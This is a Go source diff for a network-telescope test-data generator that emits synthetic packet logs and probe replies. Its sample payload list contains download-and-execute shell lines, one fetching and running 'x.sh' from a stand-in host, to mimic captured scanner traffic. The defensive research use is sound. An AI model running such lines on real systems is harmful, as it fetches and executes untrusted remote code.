@@ -10,14 +10,12 @@ package assemble
 
 import (
 	"bufio"
-	"encoding/hex"
 	"fmt"
 	"math/rand/v2"
 	"net/netip"
 	"os"
 	"path/filepath"
 	"slices"
-	"strconv"
 	"time"
 
 	"github.com/spoki-telescope/spoki/records"
@@ -37,6 +35,7 @@ type GenConfig struct {
 }
 
 // genRow is one raw row; probed rows carry their confirmation's time.
+// opts holds TCP option kinds in wire order, as records.Packet does.
 type genRow struct {
 	ms                   int64
 	src, dst             netip.Addr
@@ -44,10 +43,11 @@ type genRow struct {
 	ttl                  uint8
 	sport, dport         uint16
 	anum, snum           uint32
-	opts, payload        string
+	opts                 []uint8
+	payload              []byte
 	syn, ack, rst        bool
 	probed               bool
-	method               string
+	method               records.Method
 	userid, panum, psnum uint32
 	nprobes              int
 	conf                 bool
@@ -96,15 +96,31 @@ type generator struct {
 	rows   []genRow
 }
 
+// TCP option kinds (IANA), for genOpts.
+const (
+	genOptMSS       = 2
+	genOptWScale    = 3
+	genOptSACKPerm  = 4
+	genOptTimestamp = 8
+)
+
 var (
-	genHost     = netip.MustParseAddr("141.22.28.17")
-	genPorts    = []uint16{22, 23, 80, 443, 445, 2323, 3389, 5555, 8080, 8443, 37215, 52869}
-	genOpts     = []string{"sack_permitted:window_scale:mss", "window_scale:timestamp:sack_permitted:mss", "mss", "timestamp"}
-	genPayloads = []string{
-		hex.EncodeToString([]byte("wget http://141.22.28.35/evil")),
-		hex.EncodeToString([]byte("GET / HTTP/1.1\r\nHost: 141.22.28.17\r\n\r\n")),
-		hex.EncodeToString([]byte("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh")),
-		"16030100a5010000a10303",
+	genHost  = netip.MustParseAddr("141.22.28.17")
+	genPorts = []uint16{22, 23, 80, 443, 445, 2323, 3389, 5555, 8080, 8443, 37215, 52869}
+	// genOpts are option lists in wire order; the raw log names them in
+	// reverse: "sack_permitted:window_scale:mss",
+	// "window_scale:timestamp:sack_permitted:mss", "mss", "timestamp".
+	genOpts = [][]uint8{
+		{genOptMSS, genOptWScale, genOptSACKPerm},
+		{genOptMSS, genOptSACKPerm, genOptTimestamp, genOptWScale},
+		{genOptMSS},
+		{genOptTimestamp},
+	}
+	genPayloads = [][]byte{
+		[]byte("wget http://141.22.28.35/evil"),
+		[]byte("GET / HTTP/1.1\r\nHost: 141.22.28.17\r\n\r\n"),
+		[]byte("cd /tmp; wget http://198.51.100.7/x.sh; sh x.sh"),
+		{0x16, 0x03, 0x01, 0x00, 0xa5, 0x01, 0x00, 0x00, 0xa1, 0x03, 0x03},
 	}
 )
 
@@ -120,7 +136,7 @@ func (g *generator) dst() netip.Addr {
 
 // probe marks r as answered with method and gives it a confirmation after
 // a short delay, or none (1 %).
-func (g *generator) probe(r *genRow, method string, panum, psnum uint32, n int) {
+func (g *generator) probe(r *genRow, method records.Method, panum, psnum uint32, n int) {
 	r.probed, r.method, r.userid, r.panum, r.psnum, r.nprobes = true, method, g.userid, panum, psnum, n
 	g.userid++
 	if g.rng.IntN(100) != 0 {
@@ -162,7 +178,7 @@ func (g *generator) flow(ms int64) {
 	case k < 40: // regular SYN, answered; the scanner resets (masscan style)
 		syn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 50, sport: sport, dport: dport,
 			snum: seq, opts: genOpts[g.rng.IntN(len(genOpts))], syn: true}
-		g.probe(&syn, "tcp-synack", seq+1, 0, 1)
+		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
 		g.rows = append(g.rows, syn, g.synack(syn, ms))
 		if g.rng.IntN(3) == 0 {
 			g.rows = append(g.rows, genRow{ms: ms + 30, src: src, dst: dst, sport: sport, dport: dport, snum: seq + 1, rst: true, ttl: 50})
@@ -175,45 +191,45 @@ func (g *generator) flow(ms int64) {
 		}
 	case k < 50: // irregular SYN (zmap-like), answered, reset by the host
 		syn := genRow{ms: ms, src: src, dst: dst, ipid: 54321, ttl: 240, sport: sport, dport: dport, snum: seq, syn: true}
-		g.probe(&syn, "tcp-synack", seq+1, 0, 1)
+		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
 		g.rows = append(g.rows, syn, g.synack(syn, ms), g.hostRST(syn, ms+2))
 	case k < 65: // complete handshake with data, answered with a RST probe
 		syn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport, dport: dport,
 			snum: seq, opts: genOpts[0], syn: true}
-		g.probe(&syn, "tcp-synack", seq+1, 0, 1)
+		g.probe(&syn, records.MethodSYNACK, seq+1, 0, 1)
 		isn := g.rng.Uint32()
 		ack := genRow{ms: ms + 40, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport, dport: dport,
 			snum: seq + 1, anum: isn + 1, ack: true, payload: genPayloads[g.rng.IntN(len(genPayloads))]}
-		g.probe(&ack, "tcp-rst", 0, isn+1, 2)
+		g.probe(&ack, records.MethodRST, 0, isn+1, 2)
 		g.rows = append(g.rows, syn, g.synack(syn, ms), ack, g.hostRST(ack, ms+41), g.hostRST(ack, ms+1041))
 	case k < 75: // two-phase: irregular SYN, then a regular SYN and an ACK with data
 		isyn := genRow{ms: ms, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 222, sport: sport, dport: dport,
-			snum: seq, opts: "mss", syn: true}
-		g.probe(&isyn, "tcp-synack", seq+1, 0, 1)
+			snum: seq, opts: genOpts[2], syn: true}
+		g.probe(&isyn, records.MethodSYNACK, seq+1, 0, 1)
 		t2 := ms + int64(g.rng.IntN(5000))
 		sport2, seq2, isn := uint16(1024+g.rng.IntN(60000)), g.rng.Uint32(), g.rng.Uint32()
 		rsyn := genRow{ms: t2, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport2, dport: dport,
 			snum: seq2, opts: genOpts[1], syn: true}
-		g.probe(&rsyn, "tcp-synack", seq2+1, 0, 1)
+		g.probe(&rsyn, records.MethodSYNACK, seq2+1, 0, 1)
 		ack := genRow{ms: t2 + 40, src: src, dst: dst, ipid: uint16(g.rng.Uint32()), ttl: 55, sport: sport2, dport: dport,
 			snum: seq2 + 1, anum: isn + 1, ack: true, payload: genPayloads[0]}
-		g.probe(&ack, "tcp-rst", 0, isn+1, 2)
+		g.probe(&ack, records.MethodRST, 0, isn+1, 2)
 		g.rows = append(g.rows, isyn, g.synack(isyn, ms), rsyn, g.synack(rsyn, t2), ack, g.hostRST(ack, t2+41), g.hostRST(ack, t2+1041))
 	default: // a session: data both ways, each segment answered with a RST probe
 		hseq := g.rng.Uint32()
 		for step, n := 0, 6+g.rng.IntN(7); step < n; step++ {
 			t := ms + int64(step)*700
 			seg := genRow{ms: t, src: src, dst: genHost, ipid: 0, ttl: 55, sport: sport, dport: 22, snum: seq, anum: hseq,
-				opts: "timestamp", ack: true, payload: genPayloads[3]}
+				opts: genOpts[3], ack: true, payload: genPayloads[3]}
 			if g.rng.IntN(2) == 0 { // the host's side of the session
 				seg.src, seg.dst, seg.sport, seg.dport, seg.snum, seg.anum, seg.ttl = genHost, src, 22, sport, hseq, seq, 64
 			}
-			g.probe(&seg, "tcp-rst", 0, seg.anum, 2)
+			g.probe(&seg, records.MethodRST, 0, seg.anum, 2)
 			g.rows = append(g.rows, seg, g.hostRST(seg, t+1), g.hostRST(seg, t+500))
 			if g.rng.IntN(2) == 0 {
 				bare := seg
-				bare.ms, bare.payload, bare.snum = t+200, "", seg.snum+36
-				g.probe(&bare, "tcp-rst", 0, bare.anum, 2)
+				bare.ms, bare.payload, bare.snum = t+200, nil, seg.snum+36
+				g.probe(&bare, records.MethodRST, 0, bare.anum, 2)
 				g.rows = append(g.rows, bare)
 			}
 			seq, hseq = seq+36, hseq+36
@@ -252,75 +268,33 @@ func writeRows(path, header string, rows []genRow, appendRow func([]byte, *genRo
 	return f.Close()
 }
 
-func appendBit(dst []byte, b bool) []byte {
-	if b {
-		return append(dst, '1', '|')
-	}
-	return append(dst, '0', '|')
-}
-
 // appendGenRaw writes r in the raw-log format (records.RawHeader).
 func appendGenRaw(dst []byte, r *genRow) []byte {
-	dst = strconv.AppendInt(dst, r.ms, 10)
-	dst = append(dst, '|')
-	dst = r.src.AppendTo(dst)
-	dst = append(dst, '|')
-	dst = r.dst.AppendTo(dst)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.ipid), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.ttl), 10)
-	dst = append(dst, "|tcp|"...)
-	dst = strconv.AppendUint(dst, uint64(r.sport), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.dport), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.anum), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.snum), 10)
-	dst = append(dst, '|')
-	dst = append(dst, r.opts...)
-	dst = append(dst, '|')
-	dst = append(dst, r.payload...)
-	dst = append(dst, '|')
-	dst = appendBit(dst, r.syn)
-	dst = appendBit(dst, r.ack)
-	dst = appendBit(dst, r.rst)
-	dst = append(dst, "0|8192|"...)
-	if !r.probed {
-		return append(dst, "false|||||\n"...)
+	p := records.Packet{
+		Time: time.UnixMilli(r.ms), Src: r.src, Dst: r.dst, IPID: r.ipid, TTL: r.ttl,
+		Proto: records.ProtoTCP, SrcPort: r.sport, DstPort: r.dport, Seq: r.snum, Ack: r.anum,
+		Window: 8192, Payload: r.payload,
+		Probed: r.probed, Method: r.method, UserID: r.userid, ProbeAck: r.panum, ProbeSeq: r.psnum,
+		NumProbes: uint8(r.nprobes),
 	}
-	dst = append(dst, "true|"...)
-	dst = append(dst, r.method...)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.userid), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.panum), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.psnum), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendInt(dst, int64(r.nprobes), 10)
-	return append(dst, '\n')
+	p.NumOptions = uint8(copy(p.Options[:], r.opts))
+	if r.syn {
+		p.Flags |= records.FlagSYN
+	}
+	if r.ack {
+		p.Flags |= records.FlagACK
+	}
+	if r.rst {
+		p.Flags |= records.FlagRST
+	}
+	return records.AppendRawRow(dst, &p)
 }
 
-// appendGenCon writes r's confirmation in the scamper-log format.
+// appendGenCon writes r's confirmation in the scamper-log format
+// (records.ReplyHeader): the reply goes from r's destination to its source.
 func appendGenCon(dst []byte, r *genRow) []byte {
-	dst = strconv.AppendInt(dst, r.confUs/1e6, 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendInt(dst, r.confUs%1e6, 10)
-	dst = append(dst, '|')
-	dst = append(dst, r.method...)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.userid), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendInt(dst, int64(r.nprobes), 10)
-	dst = append(dst, '|')
-	dst = r.dst.AppendTo(dst)
-	dst = append(dst, '|')
-	dst = r.src.AppendTo(dst)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.dport), 10)
-	dst = append(dst, '|')
-	dst = strconv.AppendUint(dst, uint64(r.sport), 10)
-	return append(dst, '\n')
+	return records.AppendReplyRow(dst, &records.Reply{
+		Time: time.UnixMicro(r.confUs), Method: r.method, UserID: r.userid, NumProbes: uint8(r.nprobes),
+		Src: r.dst, Dst: r.src, SrcPort: r.dport, DstPort: r.sport,
+	})
 }
